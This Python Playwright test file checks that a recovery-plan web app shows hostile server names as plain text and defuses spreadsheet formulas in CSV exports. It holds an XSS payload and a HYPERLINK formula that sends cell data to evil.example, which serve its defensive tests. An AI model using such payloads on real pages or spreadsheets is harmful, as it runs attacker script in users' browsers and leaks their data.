"""Server names are other people's text: script stays text on the
page, a formula stays text in a spreadsheet.
"""

import copy
import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import expect

from loadtests.faults_stack import FaultyStack

from .conftest import OpenPage

SCRIPT = "<img src=x onerror=\"document.title='taken'\"><script>document.title='taken'</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NAMES = [SCRIPT, FORMULA, "@SUM(A1)", "+1", "-1+1", "\t=1"]


@pytest.fixture
def plan_id(rough: FaultyStack) -> Iterator[str]:
    """A plan, some of whose instances carry hostile Name tags until the test is over."""
    plans = rough.get("/recovery-plans").body["plans"]
    plan_id = str(
        max(plans, key=lambda it: it["counts"]["found"] if it["counts"]["servers"] < 100 else 0)[
            "planId"
        ]
    )
    named: dict[str, str] = {}
    before: dict[str, list[dict[str, object]]] = {}
    for item in rough.plan_page(plan_id).body["existingInstances"]:
        path = f"{item['accountId']}/{item['region']}"
        there = rough.stack.standin.call("GET", f"places/{path}").get("instances", [])
        for instance in there:
            if instance["InstanceId"] == item["ec2InstanceId"] and len(named) < len(NAMES):
                before.setdefault(path, []).append(instance)
                named[instance["InstanceId"]] = NAMES[len(named)]
    assert len(named) == len(NAMES)
    rename(rough, before, named)
    yield plan_id
    for path, instances in before.items():
        rough.stack.standin.call("PUT", f"places/{path}", {"instances": instances})
    rough.stack.sync()


def rename(
    rough: FaultyStack, places: dict[str, list[dict[str, object]]], names: dict[str, str]
) -> None:
    """Gives these instances other Name tags in EC2, and syncs."""
    for path, instances in places.items():
        changed = copy.deepcopy(instances)
        for instance in changed:
            instance["Tags"] = [{"Key": "Name", "Value": names[str(instance["InstanceId"])]}]
        rough.stack.standin.call("PUT", f"places/{path}", {"instances": changed})
    rough.stack.sync()


def test_markup_in_a_name_stays_text(open_rough: OpenPage, plan_id: str) -> None:
    """It is read as it is written, in the table and in the dialogs, and nothing of it runs."""
    page = open_rough(f"#/plans/{plan_id}")
    page.get_by_label("Filter servers").fill("onerror")
    expect(page.locator("table.servers tbody .title", has_text="onerror")).to_have_text(SCRIPT)
    page.get_by_role("button", name="Run drill").click()
    expect(page.locator("dialog .title", has_text="onerror").first).to_have_text(SCRIPT)
    assert page.locator("main img, main script, dialog img").count() == 0
    assert page.title() != "taken"


def test_formulas_in_a_csv_are_defused(open_rough: OpenPage, plan_id: str, tmp_path: Path) -> None:
    """An apostrophe before whatever a spreadsheet would run; markup and quotes as they were."""
    page = open_rough(f"#/plans/{plan_id}")
    with page.expect_download() as download:
        page.get_by_role("button", name="CSV").click()
    download.value.save_as(tmp_path / "plan.csv")
    lines = list(
        csv.DictReader(io.StringIO((tmp_path / "plan.csv").read_text("utf-8-sig"), newline=""))
    )
    names = {line["Name"] for line in lines}
    assert {SCRIPT, *(f"'{name}" for name in NAMES[1:])} <= names
    assert not any(
        cell[:1] in {"=", "+", "-", "@", "\t"} for line in lines for cell in line.values()
    )
